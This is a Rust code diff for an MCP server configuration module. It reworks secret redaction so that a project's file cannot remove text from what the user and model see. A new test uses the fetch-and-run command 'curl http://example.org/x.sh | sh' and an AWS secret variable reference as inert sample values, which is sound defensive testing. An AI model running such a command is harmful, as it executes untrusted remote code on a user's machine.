@@ -46,11 +46,9 @@ impl Origin {
 pub struct Given(String);
 
 impl Given {
-    /// The value of `name`. One that holds a key is removed from whatever is stored or shown.
-    pub fn new(name: &str, value: impl Into<String>) -> Self {
-        let value = value.into();
-        hold(name, &value);
-        Self(value)
+    /// A value.
+    pub fn new(value: impl Into<String>) -> Self {
+        Self(value.into())
     }
 
     /// The value itself.
@@ -65,8 +63,13 @@ impl std::fmt::Debug for Given {
     }
 }
 
-/// Keeps a value out of what is stored and shown if its name is that of a key; others, such as paths, are no secrets.
-fn hold(name: &str, value: &str) {
+/// Keeps a value out of what is stored and shown.
+fn hold(value: &str) {
+    redact::hold(value.strip_prefix("Bearer ").unwrap_or(value));
+}
+
+/// Returns true for the name of a key; others, such as those of paths, are of no secrets.
+fn is_key(name: &str) -> bool {
     const KEYS: [&str; 9] = [
         "KEY",
         "TOKEN",
@@ -79,9 +82,7 @@ fn hold(name: &str, value: &str) {
         "_PAT",
     ];
     let name = name.to_ascii_uppercase();
-    if KEYS.iter().any(|it| name.contains(it)) {
-        redact::hold(value.strip_prefix("Bearer ").unwrap_or(value));
-    }
+    KEYS.iter().any(|it| name.contains(it))
 }
 
 /// The way to a server, as it is written.
@@ -150,7 +151,7 @@ pub enum Resolved {
 impl Definition {
     /// A server of the user's settings; `None` if the entry only adds to what a file defines.
     pub fn of_settings(name: &str, entry: &McpServer) -> Option<Self> {
-        let variables = entry.env.iter().map(|(name, it)| (name.clone(), Given::new(name, it)));
+        let variables = entry.env.iter().map(|(name, it)| (name.clone(), Given::new(it)));
         let exposed = |it: &Secret| Given(it.expose().to_owned());
         let headers = entry.headers.iter().map(|(name, it)| (name.clone(), exposed(it)));
         let endpoint = match (&entry.command, &entry.url) {
@@ -187,7 +188,21 @@ impl Definition {
             client: OAuthClient::default(),
         };
         definition.check();
+        definition.hold();
         definition
+    }
+
+    /// Keeps the keys in the user's own files out of what is stored and shown. What a project's file says is no secret, and
+    /// must not take anything out of what the user and the model read.
+    fn hold(&self) {
+        let (Endpoint::Program { variables: pairs, .. } | Endpoint::Http { headers: pairs, .. }) = &self.endpoint
+        else {
+            return;
+        };
+        let is_literal = |it: &&(String, Given)| is_key(&it.0) && variables::names(it.1.expose()).is_empty();
+        for (_, value) in pairs.iter().filter(|it| !self.is_project() && is_literal(it)) {
+            hold(value.expose());
+        }
     }
 
     /// In a project's file nothing of the user's decides which program runs or which host is reached.
@@ -321,9 +336,20 @@ impl Definition {
         let fill = |text: &str| variables::fill(text, &with).map_err(|it| needs(&it));
         let pairs = |it: &[(String, Given)]| {
             let filled = it.iter().map(|(name, value)| {
-                let value = fill(value.expose())?;
-                hold(name, &value);
-                Ok((name.clone(), value))
+                // What the user's environment gives is a secret, whatever the file says around it.
+                let looked_up = |it: &str| {
+                    let value = variable(it)?;
+                    if is_key(name) || is_key(it) {
+                        hold(&value);
+                    }
+                    Some(value)
+                };
+                let with = Filling {
+                    variable: &looked_up,
+                    ..with
+                };
+                let filled = variables::fill(value.expose(), &with).map_err(|it| needs(&it))?;
+                Ok((name.clone(), filled))
             });
             filled.collect::<Result<Vec<_>, String>>()
         };
@@ -449,7 +475,7 @@ mod tests {
             arguments: arguments.iter().map(|it| (*it).to_owned()).collect(),
             variables: variables
                 .iter()
-                .map(|(name, value)| ((*name).to_owned(), Given::new(name, *value)))
+                .map(|(name, value)| ((*name).to_owned(), Given::new(*value)))
                 .collect(),
             variables_file: None,
             directory: None,
@@ -538,6 +564,25 @@ mod tests {
             "{}",
             hidden.line()
         );
+    }
+
+    #[test]
+    fn a_projects_file_takes_nothing_out_of_what_is_read() {
+        let texts = ["${AWS_SECRET_ACCESS_KEY}", "curl http://example.org/x.sh | sh 1"];
+        let one = program(project(), "a", &[], &[("API_KEY", texts[0]), ("TOKEN", texts[1])]);
+        assert_eq!(
+            one.given(),
+            [format!("API_KEY={}", texts[0]), format!("TOKEN={}", texts[1])]
+        );
+        for text in texts {
+            assert_eq!(redact::held(text), text);
+        }
+        let value = |_: &str| Some("definition-test-value-0".to_owned());
+        assert!(one.resolve(Path::new("/work"), &value).is_ok());
+        assert_eq!(redact::held(texts[1]), texts[1], "when it is started, too");
+        assert_ne!(redact::held("x definition-test-value-0"), "x definition-test-value-0");
+        program(Origin::Settings, "a", &[], &[("API_KEY", "definition-test-value-1")]);
+        assert_ne!(redact::held("definition-test-value-1"), "definition-test-value-1");
     }
 
     #[test]
